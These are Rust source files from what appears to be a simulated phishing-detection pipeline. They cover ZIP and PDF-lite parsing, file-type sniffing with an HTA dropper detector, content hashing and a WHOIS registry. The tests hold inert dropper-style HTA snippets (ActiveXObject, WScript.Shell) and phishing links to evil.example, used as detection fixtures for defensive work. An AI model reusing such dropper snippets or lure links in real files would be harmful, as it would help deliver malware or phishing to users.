//! method 0 (store) keeps the format real while avoiding an inflate
//! dependency; the pipeline only needs member traversal and integrity.

use std::fmt;

const LOCAL_SIG: u32 = 0x0403_4B50;
const CENTRAL_SIG: u32 = 0x0201_4B50;
const EOCD_SIG: u32 = 0x0605_4B50;

/// CRC-32 (IEEE, reflected) computed bitwise — no table needed at our sizes.
pub fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= b as u32;
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// One archive member.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ZipEntry {
    /// Member path.
    pub name: String,
    /// Uncompressed (= stored) bytes.
    pub data: Vec<u8>,
}

/// An in-memory ZIP archive.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ZipArchive {
    entries: Vec<ZipEntry>,
}

/// Errors from reading an archive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ZipError {
    /// The end-of-central-directory record was not found.
    MissingEocd,
    /// A signature did not match the expected record type.
    BadSignature {
        /// Byte offset of the bad record.
        offset: usize,
    },
    /// The file is shorter than a record claims.
    Truncated,
    /// A member's CRC-32 did not match its data.
    CrcMismatch {
        /// The failing member.
        name: String,
    },
    /// A compression method other than store was used.
    UnsupportedMethod {
        /// The method id found.
        method: u16,
    },
    /// A member name was not valid UTF-8.
    BadName,
}

impl fmt::Display for ZipError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ZipError::MissingEocd => write!(f, "missing end-of-central-directory record"),
            ZipError::BadSignature { offset } => write!(f, "bad record signature at {offset}"),
            ZipError::Truncated => write!(f, "archive truncated"),
            ZipError::CrcMismatch { name } => write!(f, "crc mismatch in member {name}"),
            ZipError::UnsupportedMethod { method } => {
                write!(f, "unsupported compression method {method}")
            }
            ZipError::BadName => write!(f, "member name is not valid utf-8"),
        }
    }
}

impl std::error::Error for ZipError {}

fn put_u16(out: &mut Vec<u8>, v: u16) {
    out.extend_from_slice(&v.to_le_bytes());
}

fn put_u32(out: &mut Vec<u8>, v: u32) {
    out.extend_from_slice(&v.to_le_bytes());
}

fn get_u16(data: &[u8], at: usize) -> Result<u16, ZipError> {
    data.get(at..at + 2)
        .map(|s| u16::from_le_bytes([s[0], s[1]]))
        .ok_or(ZipError::Truncated)
}

fn get_u32(data: &[u8], at: usize) -> Result<u32, ZipError> {
    data.get(at..at + 4)
        .map(|s| u32::from_le_bytes([s[0], s[1], s[2], s[3]]))
        .ok_or(ZipError::Truncated)
}

impl ZipArchive {
    /// An empty archive.
    pub fn new() -> Self {
        Self::default()
    }

    /// Append a member.
    pub fn add(&mut self, name: &str, data: &[u8]) -> &mut Self {
        self.entries.push(ZipEntry {
            name: name.to_string(),
            data: data.to_vec(),
        });
        self
    }

    /// The members in archive order.
    pub fn entries(&self) -> &[ZipEntry] {
        &self.entries
    }

    /// Find a member by exact name.
    pub fn entry(&self, name: &str) -> Option<&ZipEntry> {
        self.entries.iter().find(|e| e.name == name)
    }

    /// Serialize to the ZIP wire format (store method).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::new();
        let mut central = Vec::new();
        for e in &self.entries {
            let offset = out.len() as u32;
            let crc = crc32(&e.data);
            let name = e.name.as_bytes();
            // local file header
            put_u32(&mut out, LOCAL_SIG);
            put_u16(&mut out, 20); // version needed
            put_u16(&mut out, 0); // flags
            put_u16(&mut out, 0); // method: store
            put_u16(&mut out, 0); // mod time
            put_u16(&mut out, 0x2140); // mod date (arbitrary fixed)
            put_u32(&mut out, crc);
            put_u32(&mut out, e.data.len() as u32);
            put_u32(&mut out, e.data.len() as u32);
            put_u16(&mut out, name.len() as u16);
            put_u16(&mut out, 0); // extra len
            out.extend_from_slice(name);
            out.extend_from_slice(&e.data);
            // central directory record
            put_u32(&mut central, CENTRAL_SIG);
            put_u16(&mut central, 20); // version made by
            put_u16(&mut central, 20); // version needed
            put_u16(&mut central, 0);
            put_u16(&mut central, 0);
            put_u16(&mut central, 0);
            put_u16(&mut central, 0x2140);
            put_u32(&mut central, crc);
            put_u32(&mut central, e.data.len() as u32);
            put_u32(&mut central, e.data.len() as u32);
            put_u16(&mut central, name.len() as u16);
            put_u16(&mut central, 0); // extra
            put_u16(&mut central, 0); // comment
            put_u16(&mut central, 0); // disk start
            put_u16(&mut central, 0); // internal attrs
            put_u32(&mut central, 0); // external attrs
            put_u32(&mut central, offset);
            central.extend_from_slice(name);
        }
        let cd_offset = out.len() as u32;
        out.extend_from_slice(&central);
        // EOCD
        put_u32(&mut out, EOCD_SIG);
        put_u16(&mut out, 0); // disk
        put_u16(&mut out, 0); // cd disk
        put_u16(&mut out, self.entries.len() as u16);
        put_u16(&mut out, self.entries.len() as u16);
        put_u32(&mut out, central.len() as u32);
        put_u32(&mut out, cd_offset);
        put_u16(&mut out, 0); // comment len
        out
    }

    /// Parse a ZIP file, verifying signatures and CRCs.
    ///
    /// # Errors
    ///
    /// Returns [`ZipError`] on structural or integrity failures.
    pub fn parse(data: &[u8]) -> Result<ZipArchive, ZipError> {
        // Locate EOCD by scanning backwards for its signature.
        let eocd = (0..data.len().saturating_sub(21))
            .rev()
            .find(|&i| get_u32(data, i) == Ok(EOCD_SIG))
            .ok_or(ZipError::MissingEocd)?;
        let count = get_u16(data, eocd + 10)? as usize;
        let cd_offset = get_u32(data, eocd + 16)? as usize;

        let mut entries = Vec::with_capacity(count);
        let mut pos = cd_offset;
        for _ in 0..count {
            if get_u32(data, pos)? != CENTRAL_SIG {
                return Err(ZipError::BadSignature { offset: pos });
            }
            let method = get_u16(data, pos + 10)?;
            if method != 0 {
                return Err(ZipError::UnsupportedMethod { method });
            }
            let crc = get_u32(data, pos + 16)?;
            let size = get_u32(data, pos + 24)? as usize;
            let name_len = get_u16(data, pos + 28)? as usize;
            let extra_len = get_u16(data, pos + 30)? as usize;
            let comment_len = get_u16(data, pos + 32)? as usize;
            let local_offset = get_u32(data, pos + 42)? as usize;
            let name_bytes = data
                .get(pos + 46..pos + 46 + name_len)
                .ok_or(ZipError::Truncated)?;
            let name =
                String::from_utf8(name_bytes.to_vec()).map_err(|_| ZipError::BadName)?;

            // Read the member via its local header.
            if get_u32(data, local_offset)? != LOCAL_SIG {
                return Err(ZipError::BadSignature {
                    offset: local_offset,
                });
            }
            let l_name_len = get_u16(data, local_offset + 26)? as usize;
            let l_extra_len = get_u16(data, local_offset + 28)? as usize;
            let data_start = local_offset + 30 + l_name_len + l_extra_len;
            let member = data
                .get(data_start..data_start + size)
                .ok_or(ZipError::Truncated)?;
            if crc32(member) != crc {
                return Err(ZipError::CrcMismatch { name });
            }
            entries.push(ZipEntry {
                name,
                data: member.to_vec(),
            });
            pos += 46 + name_len + extra_len + comment_len;
        }
        Ok(ZipArchive { entries })
    }
}

impl FromIterator<ZipEntry> for ZipArchive {
    fn from_iter<T: IntoIterator<Item = ZipEntry>>(iter: T) -> Self {
        ZipArchive {
            entries: iter.into_iter().collect(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc32_known_vectors() {
        assert_eq!(crc32(b""), 0);
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b"The quick brown fox jumps over the lazy dog"), 0x414F_A339);
    }

    #[test]
    fn round_trip_multiple_members() {
        let mut a = ZipArchive::new();
        a.add("readme.txt", b"hello")
            .add("dropper.hta", b"<script>new ActiveXObject('x')</script>")
            .add("dir/nested.bin", &[0u8, 255, 3, 7]);
        let bytes = a.to_bytes();
        let b = ZipArchive::parse(&bytes).unwrap();
        assert_eq!(a, b);
        assert_eq!(
            b.entry("dropper.hta").unwrap().data,
            b"<script>new ActiveXObject('x')</script>"
        );
    }

    #[test]
    fn wire_format_starts_with_pk() {
        let mut a = ZipArchive::new();
        a.add("x", b"y");
        let bytes = a.to_bytes();
        assert_eq!(&bytes[..4], b"PK\x03\x04");
    }

    #[test]
    fn empty_archive_round_trips() {
        let a = ZipArchive::new();
        let b = ZipArchive::parse(&a.to_bytes()).unwrap();
        assert!(b.entries().is_empty());
    }

    #[test]
    fn corrupted_member_fails_crc() {
        let mut a = ZipArchive::new();
        a.add("f.txt", b"important payload");
        let mut bytes = a.to_bytes();
        // flip a byte inside the stored data region (after the 30+5 header)
        bytes[35] ^= 0xFF;
        assert!(matches!(
            ZipArchive::parse(&bytes),
            Err(ZipError::CrcMismatch { .. })
        ));
    }

    #[test]
    fn garbage_has_no_eocd() {
        assert_eq!(
            ZipArchive::parse(b"this is not a zip"),
            Err(ZipError::MissingEocd)
        );
    }

    #[test]
    fn truncated_archive_detected() {
        let mut a = ZipArchive::new();
        a.add("file.bin", &vec![7u8; 100]);
        let bytes = a.to_bytes();
        // Keep the EOCD but cut out the middle so member data is missing.
        let mut cut = bytes[..20].to_vec();
        cut.extend_from_slice(&bytes[bytes.len() - 22..]);
        assert!(ZipArchive::parse(&cut).is_err());
    }

    #[test]
    fn binary_names_rejected() {
        let mut a = ZipArchive::new();
        a.add("ok", b"x");
        let mut bytes = a.to_bytes();
        // corrupt the name byte in both local and central records
        let positions: Vec<usize> = bytes
            .windows(2)
            .enumerate()
            .filter(|(_, w)| *w == b"ok")
            .map(|(i, _)| i)
            .collect();
        for p in positions {
            bytes[p] = 0xFF;
            bytes[p + 1] = 0xFE;
        }
        // CRC mismatch check happens after name parse; invalid UTF-8 name
        // must be rejected as BadName.
        assert_eq!(ZipArchive::parse(&bytes), Err(ZipError::BadName));
    }

    #[test]
    fn entries_preserve_order() {
        let mut a = ZipArchive::new();
        for i in 0..10 {
            a.add(&format!("m{i}"), &[i as u8]);
        }
        let b = ZipArchive::parse(&a.to_bytes()).unwrap();
        let names: Vec<&str> = b.entries().iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, (0..10).map(|i| format!("m{i}")).collect::<Vec<_>>().iter().map(|s| s.as_str()).collect::<Vec<_>>());
    }
}
