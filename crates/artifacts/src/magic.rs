//! File-signature ("magic number") sniffing.
//!
//! CrawlerBox analyzes `application/octet-stream` parts "according to their
//! file signature determined by magic numbers" (§IV-B) — attackers routinely
//! mislabel content types to dodge type-specific scanners. This module also
//! recognizes HTA droppers, the payload of the paper's five ZIP download
//! chains, which CrawlerBox deliberately refuses to execute.

/// What a byte blob actually is, regardless of its declared content type.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FileKind {
    /// ZIP archive (`PK\x03\x04` or an empty archive's `PK\x05\x06`).
    Zip,
    /// PDF document (`%PDF-`).
    Pdf,
    /// PNG image.
    Png,
    /// JPEG image.
    Jpeg,
    /// GIF image.
    Gif,
    /// Our own bitmap serialization (`CBXBMP1`).
    CbxBitmap,
    /// HTML document (including HTA content — see [`is_hta`]).
    Html,
    /// An RFC 822 message (header-shaped text).
    Eml,
    /// Printable text with no stronger signature.
    Text,
    /// Anything else.
    Unknown,
}

/// Sniff the kind of `data` from its leading bytes (and light heuristics for
/// the text-like kinds).
pub fn sniff(data: &[u8]) -> FileKind {
    if data.starts_with(b"PK\x03\x04") || data.starts_with(b"PK\x05\x06") {
        return FileKind::Zip;
    }
    if data.starts_with(b"%PDF-") {
        return FileKind::Pdf;
    }
    if data.starts_with(&[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A]) {
        return FileKind::Png;
    }
    if data.starts_with(&[0xFF, 0xD8, 0xFF]) {
        return FileKind::Jpeg;
    }
    if data.starts_with(b"GIF87a") || data.starts_with(b"GIF89a") {
        return FileKind::Gif;
    }
    if data.starts_with(b"CBXBMP1") {
        return FileKind::CbxBitmap;
    }
    // Text-like heuristics need a decodable prefix.
    let text_prefix = String::from_utf8_lossy(&data[..data.len().min(2048)]);
    let trimmed = text_prefix.trim_start();
    let lower = trimmed.to_ascii_lowercase();
    if lower.starts_with("<!doctype html")
        || lower.starts_with("<html")
        || lower.starts_with("<head")
        || lower.starts_with("<script")
        || lower.starts_with("<body")
    {
        return FileKind::Html;
    }
    if looks_like_eml(trimmed) {
        return FileKind::Eml;
    }
    if !data.is_empty()
        && data
            .iter()
            .take(512)
            .all(|&b| b == b'\n' || b == b'\r' || b == b'\t' || (0x20..0x7F).contains(&b))
    {
        return FileKind::Text;
    }
    FileKind::Unknown
}

/// Heuristic for RFC 822 content: several leading `Name: value` lines with
/// at least one well-known mail header.
fn looks_like_eml(text: &str) -> bool {
    let mut header_lines = 0;
    let mut known = false;
    for line in text.lines().take(10) {
        if line.is_empty() {
            break;
        }
        if let Some((name, _)) = line.split_once(':') {
            if !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-') {
                header_lines += 1;
                let lower = name.to_ascii_lowercase();
                if matches!(
                    lower.as_str(),
                    "from" | "to" | "subject" | "received" | "date" | "message-id" | "mime-version"
                ) {
                    known = true;
                }
                continue;
            }
        }
        if !(line.starts_with(' ') || line.starts_with('\t')) {
            return false;
        }
    }
    header_lines >= 2 && known
}

/// `true` if HTML content is an HTA (HTML Application) dropper: the Windows
/// `mshta.exe` vector the paper's ZIP chains delivered. Detection keys on
/// the `hta:application` element or ActiveX instantiation.
pub fn is_hta(data: &[u8]) -> bool {
    let text = String::from_utf8_lossy(&data[..data.len().min(8192)]).to_ascii_lowercase();
    text.contains("<hta:application") || text.contains("activexobject")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn binary_signatures() {
        assert_eq!(sniff(b"PK\x03\x04rest"), FileKind::Zip);
        assert_eq!(sniff(b"%PDF-1.7 ..."), FileKind::Pdf);
        assert_eq!(
            sniff(&[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 1]),
            FileKind::Png
        );
        assert_eq!(sniff(&[0xFF, 0xD8, 0xFF, 0xE0]), FileKind::Jpeg);
        assert_eq!(sniff(b"GIF89a...."), FileKind::Gif);
        assert_eq!(sniff(b"CBXBMP1...."), FileKind::CbxBitmap);
    }

    #[test]
    fn html_detection() {
        assert_eq!(sniff(b"<!DOCTYPE html><html>"), FileKind::Html);
        assert_eq!(sniff(b"  <html lang=\"en\">"), FileKind::Html);
        assert_eq!(sniff(b"<script>location.href='https://x.example'</script>"), FileKind::Html);
    }

    #[test]
    fn eml_detection() {
        let eml = b"From: a@x.example\r\nTo: b@y.example\r\nSubject: hi\r\n\r\nbody";
        assert_eq!(sniff(eml), FileKind::Eml);
        // generic key:value config is not mail
        assert_eq!(sniff(b"color: red\nsize: 10\n\nx"), FileKind::Text);
    }

    #[test]
    fn plain_text_fallback() {
        assert_eq!(sniff(b"just a harmless note"), FileKind::Text);
        assert_eq!(sniff(&[0u8, 159, 200]), FileKind::Unknown);
        assert_eq!(sniff(b""), FileKind::Unknown);
    }

    #[test]
    fn hta_detection() {
        assert!(is_hta(b"<html><hta:application id=x /><script>...</script>"));
        assert!(is_hta(
            b"<script>var sh = new ActiveXObject('WScript.Shell');</script>"
        ));
        assert!(!is_hta(b"<html><body>benign page</body></html>"));
    }

    #[test]
    fn mislabeled_zip_detected() {
        // Declared octet-stream, actually a ZIP: the pipeline relies on this.
        let mut a = crate::zip::ZipArchive::new();
        a.add("inner.hta", b"<hta:application/>");
        assert_eq!(sniff(&a.to_bytes()), FileKind::Zip);
    }
}
