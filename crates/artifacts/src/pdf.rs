//! PDF-lite: a document format with the two URL carriers the pipeline cares
//! about (§IV-B): **embedded link annotations** (`/Annots` with `/URI`
//! actions) and **page text** (content-stream `Tj` operators), plus a page
//! rasterizer so pages can be screenshotted and pushed through the image
//! analysis path (OCR + QR detection) exactly as the paper describes.
//!
//! Serialization follows real PDF shapes — `%PDF-` header, numbered
//! `obj`/`endobj` bodies, `BT … (text) Tj … ET` content streams, link
//! annotation dictionaries, `trailer` — while the parser applies the
//! leniency real-world extractors need (object scanning, not xref chasing).

use crate::bitmap::{Bitmap, Rgb};
use std::fmt;

/// A positioned text run on a page (PDF-style origin: top-left here for
/// simplicity; units are pixels of the rasterized page).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PdfText {
    /// Horizontal offset.
    pub x: usize,
    /// Vertical offset.
    pub y: usize,
    /// The run's characters.
    pub text: String,
}

/// A link annotation with a URI action.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PdfLink {
    /// Destination URI.
    pub uri: String,
}

/// One page.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PdfPage {
    /// Text runs in paint order.
    pub texts: Vec<PdfText>,
    /// Link annotations.
    pub links: Vec<PdfLink>,
}

impl PdfPage {
    /// An empty page.
    pub fn new() -> Self {
        Self::default()
    }

    /// Add a text run.
    pub fn text(&mut self, x: usize, y: usize, text: &str) -> &mut Self {
        self.texts.push(PdfText {
            x,
            y,
            text: text.to_string(),
        });
        self
    }

    /// Add a link annotation.
    pub fn link(&mut self, uri: &str) -> &mut Self {
        self.links.push(PdfLink {
            uri: uri.to_string(),
        });
        self
    }

    /// Rasterize to a page screenshot (white background, black text).
    pub fn rasterize(&self, width: usize, height: usize) -> Bitmap {
        let mut img = Bitmap::new(width, height, Rgb::WHITE);
        for t in &self.texts {
            img.draw_text(t.x, t.y, &t.text, 1, Rgb::BLACK);
        }
        img
    }
}

/// A multi-page document.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PdfDocument {
    /// Pages in order.
    pub pages: Vec<PdfPage>,
}

/// Errors from parsing a PDF-lite byte stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PdfError {
    /// Missing `%PDF-` header.
    BadHeader,
    /// A string literal was unterminated.
    UnterminatedString {
        /// Offset of the opening parenthesis.
        at: usize,
    },
}

impl fmt::Display for PdfError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PdfError::BadHeader => write!(f, "missing %PDF- header"),
            PdfError::UnterminatedString { at } => {
                write!(f, "unterminated string literal at {at}")
            }
        }
    }
}

impl std::error::Error for PdfError {}

/// Escape a PDF string literal. Newlines are encoded as `\n` so that a
/// serialized literal never spans lines — the parser's line-oriented
/// structure markers (`/Type /Page`, `stream`, `endstream`) are then safe
/// from being matched inside string content.
fn escape(s: &str) -> String {
    s.replace('\\', "\\\\")
        .replace('(', "\\(")
        .replace(')', "\\)")
        .replace('\n', "\\n")
        .replace('\r', "\\r")
}

/// Unescape a PDF string literal body.
fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') => out.push('\n'),
                Some('r') => out.push('\r'),
                Some(n) => out.push(n),
                None => {}
            }
        } else {
            out.push(c);
        }
    }
    out
}

impl PdfDocument {
    /// An empty document.
    pub fn new() -> Self {
        Self::default()
    }

    /// Append a page, returning `self` for chaining.
    pub fn page(&mut self, page: PdfPage) -> &mut Self {
        self.pages.push(page);
        self
    }

    /// All link URIs across pages, in order.
    pub fn link_uris(&self) -> Vec<&str> {
        self.pages
            .iter()
            .flat_map(|p| p.links.iter().map(|l| l.uri.as_str()))
            .collect()
    }

    /// All text content across pages joined with newlines.
    pub fn all_text(&self) -> String {
        let mut out = String::new();
        for p in &self.pages {
            for t in &p.texts {
                if !out.is_empty() {
                    out.push('\n');
                }
                out.push_str(&t.text);
            }
        }
        out
    }

    /// Serialize to PDF-lite bytes.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = String::from("%PDF-1.4\n%\u{e2}\u{e3}\u{cf}\u{d3} cbx-lite\n");
        let mut obj_num = 1;
        out.push_str(&format!(
            "{obj_num} 0 obj\n<< /Type /Catalog /PageCount {} >>\nendobj\n",
            self.pages.len()
        ));
        for page in &self.pages {
            obj_num += 1;
            out.push_str(&format!("{obj_num} 0 obj\n<< /Type /Page /Annots [\n"));
            for l in &page.links {
                out.push_str(&format!(
                    "<< /Type /Annot /Subtype /Link /A << /S /URI /URI ({}) >> >>\n",
                    escape(&l.uri)
                ));
            }
            out.push_str("] >>\nstream\nBT /F1 10 Tf\n");
            for t in &page.texts {
                out.push_str(&format!("{} {} Td ({}) Tj\n", t.x, t.y, escape(&t.text)));
            }
            out.push_str("ET\nendstream\nendobj\n");
        }
        out.push_str("trailer\n<< /Size ");
        out.push_str(&format!("{obj_num} >>\n%%EOF\n"));
        out.into_bytes()
    }

    /// Parse PDF-lite bytes back into a document.
    ///
    /// # Errors
    ///
    /// Returns [`PdfError`] on a missing header or malformed string literal.
    pub fn parse(data: &[u8]) -> Result<PdfDocument, PdfError> {
        let text = String::from_utf8_lossy(data);
        if !text.starts_with("%PDF-") {
            return Err(PdfError::BadHeader);
        }
        let mut doc = PdfDocument::new();
        // Pages are delimited by "obj\n<< /Type /Page" object headers.
        // String literals cannot contain raw newlines (escape() encodes
        // them), so this line-anchored marker never matches inside text.
        for chunk in text.split("obj\n<< /Type /Page").skip(1) {
            let mut page = PdfPage::new();
            // Link annotations: /URI (...)
            let mut rest = chunk;
            while let Some(pos) = rest.find("/URI (") {
                let body_start = pos + "/URI (".len();
                let body = read_string_literal(&rest[body_start..]).ok_or(
                    PdfError::UnterminatedString {
                        at: body_start,
                    },
                )?;
                page.link(&unescape(body));
                rest = &rest[body_start + body.len()..];
            }
            // Text ops: "x y Td (text) Tj". Stream boundaries are likewise
            // line-anchored.
            let stream = chunk
                .split("\nstream\n")
                .nth(1)
                .and_then(|s| s.split("\nendstream").next())
                .unwrap_or("");
            for line in stream.lines() {
                let line = line.trim();
                if !line.ends_with("Tj") {
                    continue;
                }
                let mut words = line.split_whitespace();
                let (Some(xs), Some(ys), Some(td)) = (words.next(), words.next(), words.next())
                else {
                    continue;
                };
                if td != "Td" {
                    continue;
                }
                let (Ok(x), Ok(y)) = (xs.parse::<usize>(), ys.parse::<usize>()) else {
                    continue;
                };
                if let Some(open) = line.find('(') {
                    let body = read_string_literal(&line[open + 1..]).ok_or(
                        PdfError::UnterminatedString { at: open },
                    )?;
                    page.text(x, y, &unescape(body));
                }
            }
            doc.page(page);
        }
        Ok(doc)
    }
}

/// Read a PDF string literal body up to (excluding) its closing unescaped
/// parenthesis. Returns `None` if unterminated.
fn read_string_literal(s: &str) -> Option<&str> {
    let bytes = s.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' => i += 2,
            b')' => return Some(&s[..i]),
            _ => i += 1,
        }
    }
    None
}

/// Suggested rasterization size for page screenshots (wide enough for a long
/// URL at scale 1).
pub const PAGE_WIDTH: usize = 640;
/// Suggested page height.
pub const PAGE_HEIGHT: usize = 220;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::font::{ADVANCE, GLYPH_H};
    use crate::ocr;

    #[test]
    fn round_trip_links_and_text() {
        let mut doc = PdfDocument::new();
        let mut p1 = PdfPage::new();
        p1.text(10, 10, "INVOICE OVERDUE")
            .link("https://evil.example/pay?id=42");
        let mut p2 = PdfPage::new();
        p2.text(10, 10, "PAGE TWO").link("https://evil.example/alt");
        doc.page(p1).page(p2);
        let parsed = PdfDocument::parse(&doc.to_bytes()).unwrap();
        assert_eq!(parsed, doc);
        assert_eq!(
            parsed.link_uris(),
            vec!["https://evil.example/pay?id=42", "https://evil.example/alt"]
        );
    }

    #[test]
    fn header_is_pdf_magic() {
        let doc = PdfDocument::new();
        let bytes = doc.to_bytes();
        assert!(bytes.starts_with(b"%PDF-"));
        assert_eq!(crate::magic::sniff(&bytes), crate::magic::FileKind::Pdf);
    }

    #[test]
    fn escaped_parentheses_survive() {
        let mut doc = PdfDocument::new();
        let mut p = PdfPage::new();
        p.text(5, 5, "balance (overdue)")
            .link("https://evil.example/a(b)c");
        doc.page(p);
        let parsed = PdfDocument::parse(&doc.to_bytes()).unwrap();
        assert_eq!(parsed.pages[0].texts[0].text, "balance (overdue)");
        assert_eq!(parsed.pages[0].links[0].uri, "https://evil.example/a(b)c");
    }

    #[test]
    fn garbage_rejected() {
        assert_eq!(PdfDocument::parse(b"not a pdf"), Err(PdfError::BadHeader));
    }

    #[test]
    fn rasterized_page_is_ocr_readable() {
        // The paper's second PDF approach: screenshot each page, then run
        // the image pipeline over it.
        let mut p = PdfPage::new();
        p.text(4, 8, "HTTPS://EVIL.EXAMPLE/QR");
        let img = p.rasterize(PAGE_WIDTH, 60);
        let text = ocr::recognize_text(&img, 1);
        assert!(text.contains("HTTPS://EVIL.EXAMPLE/QR"), "{text}");
    }

    #[test]
    fn all_text_joins_pages() {
        let mut doc = PdfDocument::new();
        let mut p1 = PdfPage::new();
        p1.text(0, 0, "A");
        let mut p2 = PdfPage::new();
        p2.text(0, 0, "B");
        doc.page(p1).page(p2);
        assert_eq!(doc.all_text(), "A\nB");
    }

    #[test]
    fn empty_document_round_trips() {
        let doc = PdfDocument::new();
        let parsed = PdfDocument::parse(&doc.to_bytes()).unwrap();
        assert!(parsed.pages.is_empty());
        assert!(parsed.link_uris().is_empty());
    }

    #[test]
    fn text_size_constants_fit_font() {
        // One glyph row must fit within the suggested page height.
        assert!(GLYPH_H < PAGE_HEIGHT);
        assert!(ADVANCE * 40 < PAGE_WIDTH);
    }
}

#[cfg(test)]
mod review_regressions {
    use super::*;

    #[test]
    fn literal_containing_structure_markers_round_trips() {
        let mut doc = PdfDocument::new();
        let mut page = PdfPage::new();
        page.text(4, 4, "about the /Type /Page object and the stream keyword")
            .text(4, 20, "also endstream and obj mentions")
            .link("https://x.example/stream");
        doc.page(page);
        let parsed = PdfDocument::parse(&doc.to_bytes()).unwrap();
        assert_eq!(parsed.pages.len(), 1);
        assert_eq!(parsed, doc);
    }

    #[test]
    fn literal_with_newlines_round_trips() {
        let mut doc = PdfDocument::new();
        let mut page = PdfPage::new();
        page.text(4, 4, "line one\nline two\r\nline three");
        doc.page(page);
        let parsed = PdfDocument::parse(&doc.to_bytes()).unwrap();
        assert_eq!(parsed.pages[0].texts[0].text, "line one\nline two\r\nline three");
    }
}
