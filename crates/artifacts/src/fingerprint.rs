//! Content fingerprints for memoizing artifact decoding.
//!
//! The scan pipeline decodes the same attachment bytes many times (campaign
//! generators deliberately reuse artifacts across messages), so decode
//! results are memoized keyed by a 128-bit FNV-1a hash of the content.
//! FNV-1a is deterministic across runs and platforms — a requirement for
//! the cache-purity invariant (DESIGN.md §8) — and at 128 bits accidental
//! collisions are out of reach for any corpus this simulation produces.

/// FNV-1a 128-bit offset basis.
const FNV_OFFSET: u128 = 0x6c62_272e_07bb_0142_62b8_2175_6295_c58d;
/// FNV-1a 128-bit prime.
const FNV_PRIME: u128 = 0x0000_0000_0100_0000_0000_0000_0000_013b;

/// 128-bit FNV-1a hash of a byte slice.
pub fn fnv128(data: &[u8]) -> u128 {
    fnv128_iter(data.iter().copied())
}

/// 128-bit FNV-1a hash of a byte stream — for content that is not
/// contiguous in memory (pixel channels, composite keys).
pub fn fnv128_iter(bytes: impl IntoIterator<Item = u8>) -> u128 {
    let mut h = FNV_OFFSET;
    for b in bytes {
        h ^= u128::from(b);
        h = h.wrapping_mul(FNV_PRIME);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_input_sensitive() {
        assert_eq!(fnv128(b"abc"), fnv128(b"abc"));
        assert_ne!(fnv128(b"abc"), fnv128(b"abd"));
        assert_ne!(fnv128(b""), fnv128(b"\0"));
        // Matches the iterator form.
        assert_eq!(fnv128(b"payload"), fnv128_iter(b"payload".iter().copied()));
    }

    #[test]
    fn known_empty_hash_is_offset_basis() {
        assert_eq!(fnv128(b""), 0x6c62_272e_07bb_0142_62b8_2175_6295_c58d);
    }
}
