//! The domain registry (WHOIS).
//!
//! Figure 3's `timedeltaA` is "the time difference between the registration
//! of the domain and the average delivery time of the messages" — which
//! requires registration timestamps with realistic provenance. The registry
//! records who registered what and when, including the `.ru` registrars the
//! paper lists (REGRU-RU, R01-RU, RU-CENTER-RU, REGTIME-RU, OPENPROV-RU).

use crate::url::DomainName;
use cb_sim::SimTime;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// One WHOIS record.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct WhoisRecord {
    /// The registered domain.
    pub domain: DomainName,
    /// Registration instant.
    pub registered_at: SimTime,
    /// Sponsoring registrar.
    pub registrar: String,
    /// Whether the domain was later marked compromised (legitimate domain
    /// taken over to host phishing — §V-A outliers).
    pub compromised: bool,
}

/// The registry of all registered domains.
#[derive(Debug, Clone, Default)]
pub struct DomainRegistry {
    records: BTreeMap<DomainName, WhoisRecord>,
}

impl DomainRegistry {
    /// An empty registry.
    pub fn new() -> Self {
        Self::default()
    }

    /// Register `domain` at `when` through `registrar`. Re-registration
    /// keeps the original record (matching WHOIS creation-date semantics)
    /// and returns `false`.
    pub fn register(&mut self, domain: &str, when: SimTime, registrar: &str) -> bool {
        let key = DomainName::new(domain);
        if self.records.contains_key(&key) {
            return false;
        }
        self.records.insert(
            key.clone(),
            WhoisRecord {
                domain: key,
                registered_at: when,
                registrar: registrar.to_string(),
                compromised: false,
            },
        );
        true
    }

    /// Mark an existing domain as compromised.
    pub fn mark_compromised(&mut self, domain: &str) -> bool {
        match self.records.get_mut(&DomainName::new(domain)) {
            Some(r) => {
                r.compromised = true;
                true
            }
            None => false,
        }
    }

    /// WHOIS lookup.
    pub fn lookup(&self, domain: &str) -> Option<&WhoisRecord> {
        self.records.get(&DomainName::new(domain))
    }

    /// Number of registered domains.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// `true` when no domains are registered.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// Iterate all records in name order.
    pub fn iter(&self) -> impl Iterator<Item = &WhoisRecord> {
        self.records.values()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
